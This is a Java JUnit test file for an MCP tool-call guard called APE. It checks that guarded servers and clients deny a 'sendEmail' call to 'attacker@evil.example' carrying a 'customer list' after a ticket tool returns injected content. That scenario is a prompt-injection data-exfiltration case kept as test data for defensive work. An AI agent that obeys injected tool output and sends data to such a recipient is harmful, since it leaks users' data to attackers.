package io.ape.mcpsdk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ape.api.CallStatus;
import io.ape.api.Provenance;
import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.ServerParameters;
import io.modelcontextprotocol.client.transport.StdioClientTransport;
import io.modelcontextprotocol.json.jackson3.JacksonMcpJsonMapper;
import io.modelcontextprotocol.spec.McpError;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/**
 * A real MCP Java SDK server (a child JVM, {@link TicketServer}) and a real SDK client over
 * stdio. Server side: the server's tools are guarded; client side: the client is guarded and the
 * server's tools are plain. The engine is a test double with the real provenance tracker; the
 * rule: {@code sendEmail}'s {@code to} must come from the user.
 */
class McpSdkStdioTest {
  static final String DENIED_TEXT =
      "APE denied this tool call: it is not permitted by the security policy.";

  @TempDir
  Path dir;
  McpSyncClient client;

  McpSyncClient connect(String ticket, String guarding) {
    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    ServerParameters server = ServerParameters.builder(java)
        .args("-cp", System.getProperty("java.class.path"), TicketServer.class.getName(),
            ticket, outbox().toString(), guarding)
        .build();
    client = McpClient.sync(new StdioClientTransport(server,
            new JacksonMcpJsonMapper(JsonMapper.shared())))
        .requestTimeout(Duration.ofSeconds(60)).initializationTimeout(Duration.ofSeconds(60))
        .build();
    client.initialize();
    return client;
  }

  @AfterEach
  void close() {
    if (client != null) {
      client.closeGracefully();
    }
  }

  Path outbox() {
    return dir.resolve("outbox.txt");
  }

  String sent() throws Exception {
    return Files.exists(outbox()) ? Files.readString(outbox()) : "";
  }

  static String text(CallToolResult r) {
    return ((TextContent) r.content().get(0)).text();
  }

  @Test
  void guardedServerRunsABenignTaskAndRefusesTheInjectedRecipientWithAnErrorResult()
      throws Exception {
    McpSyncClient c = connect("injected", "guarded");
    CallToolResult ticket = c.callTool(new CallToolRequest("getTicket", Map.of("id", "4711")));
    assertThat(text(ticket)).isEqualTo(TicketServer.INJECTED);

    CallToolResult benign = c.callTool(new CallToolRequest("sendEmail",
        Map.of("to", "bob@acme.com", "subject", "Ticket 4711", "body", "Printer jams.")));
    assertThat(benign.isError()).isNotEqualTo(Boolean.TRUE);
    assertThat(text(benign)).isEqualTo("sent");

    CallToolResult attack = c.callTool(new CallToolRequest("sendEmail",
        Map.of("to", "attacker@evil.example", "subject", "x", "body", "customer list")));
    assertThat(attack.isError()).isTrue(); // a result, not a JSON-RPC error
    assertThat(text(attack)).isEqualTo(DENIED_TEXT);
    assertThat(sent()).isEqualTo("bob@acme.com|Ticket 4711|Printer jams.\n");
  }

  @Test
  void aGuardedAsyncServerRefusesTheInjectedRecipientWithAnErrorResult() throws Exception {
    McpSyncClient c = connect("injected", "guarded-async");
    assertThat(text(c.callTool(new CallToolRequest("getTicket", Map.of("id", "4711")))))
        .isEqualTo(TicketServer.INJECTED);
    CallToolResult attack = c.callTool(new CallToolRequest("sendEmail",
        Map.of("to", "attacker@evil.example", "subject", "x", "body", "customer list")));
    assertThat(attack.isError()).isTrue();
    assertThat(text(attack)).isEqualTo(DENIED_TEXT);
    CallToolResult crash = c.callTool(new CallToolRequest("crash", Map.of()));
    assertThat(crash.isError()).isTrue();
    assertThat(text(crash)).isEqualTo("The tool failed while running.");
    assertThat(text(c.callTool(new CallToolRequest("sendEmail",
        Map.of("to", "bob@acme.com", "subject", "s", "body", "b"))))).isEqualTo("sent");
    assertThat(sent()).isEqualTo("crash ran\nbob@acme.com|s|b\n");
  }

  @Test
  void aThrowingHandlerIsAJsonRpcErrorUnguardedAndATerseErrorResultGuarded() throws Exception {
    McpSyncClient plain = connect("benign", "plain");
    assertThatThrownBy(() -> plain.callTool(new CallToolRequest("crash", Map.of())))
        .isInstanceOf(McpError.class)
        .satisfies(e -> assertThat(((McpError) e).getJsonRpcError().code()).isEqualTo(-32603));
    plain.closeGracefully();

    McpSyncClient guarded = connect("benign", "guarded");
    CallToolResult r = guarded.callTool(new CallToolRequest("crash", Map.of()));
    assertThat(r.isError()).isTrue();
    assertThat(text(r)).isEqualTo("The tool failed while running.").doesNotContain("secret");
  }

  @Test
  void aGuardedClientRefusesTheInjectedRecipientBeforeTheServerSeesIt() throws Exception {
    FakeEngine engine = new FakeEngine();
    engine.trustedParameters.put("tickets.sendEmail", Set.of("to"));
    FakeEngine.FakeSession session = engine.openSession("agent-1");
    session.recordUserMessage(TicketServer.USER);
    ApeMcpClient.Sync c = ApeMcpClient.guard(engine).build()
        .sync(connect("injected", "plain"), "tickets", session);

    CallToolResult ticket = c.callTool("getTicket", Map.of("id", "4711"));
    assertThat(text(ticket)).isEqualTo(TicketServer.INJECTED);
    // the result fed the tracker as untrusted input
    assertThat(session.tracker.label("attacker@evil.example"))
        .isEqualTo(Provenance.EXTERNAL_UNTRUSTED);

    CallToolResult attack = c.callTool("sendEmail",
        Map.of("to", "attacker@evil.example", "subject", "x", "body", "y"));
    assertThat(attack.isError()).isTrue();
    assertThat(text(attack)).isEqualTo(DENIED_TEXT);
    CallToolResult benign = c.callTool("sendEmail",
        Map.of("to", "bob@acme.com", "subject", "s", "body", "b"));
    assertThat(text(benign)).isEqualTo("sent");
    assertThat(sent()).isEqualTo("bob@acme.com|s|b\n");
    assertThat(engine.tools).containsOnlyKeys("tickets.getTicket", "tickets.sendEmail");

    // a second guard on the same engine cannot register the tool again: refused, not thrown
    CallToolResult second = ApeMcpClient.guard(engine).build()
        .sync(c.client(), "tickets", session).callTool("sendEmail",
            Map.of("to", "bob@acme.com", "subject", "s2", "body", "b2"));
    assertThat(second.isError()).isTrue();
    assertThat(sent()).isEqualTo("bob@acme.com|s|b\n");
  }

  @Test
  void inAbortModeAGuardedClientThrowsTheRefusal() throws Exception {
    FakeEngine engine = new FakeEngine();
    engine.trustedParameters.put("tickets.sendEmail", Set.of("to"));
    FakeEngine.FakeSession session = engine.openSession("agent-1");
    ApeMcpClient.Sync aborting = ApeMcpClient.guard(engine).abortOnRefusal().build()
        .sync(connect("injected", "plain"), "tickets", session);
    aborting.callTool("getTicket", Map.of("id", "4711"));
    assertThatThrownBy(() -> aborting.callTool("sendEmail",
        Map.of("to", "attacker@evil.example", "subject", "x", "body", "y")))
        .isInstanceOf(ApeToolRefusedException.class)
        .satisfies(e -> assertThat(((ApeToolRefusedException) e).result().status())
            .isEqualTo(CallStatus.DENIED));
    assertThat(sent()).isEmpty();
  }
}
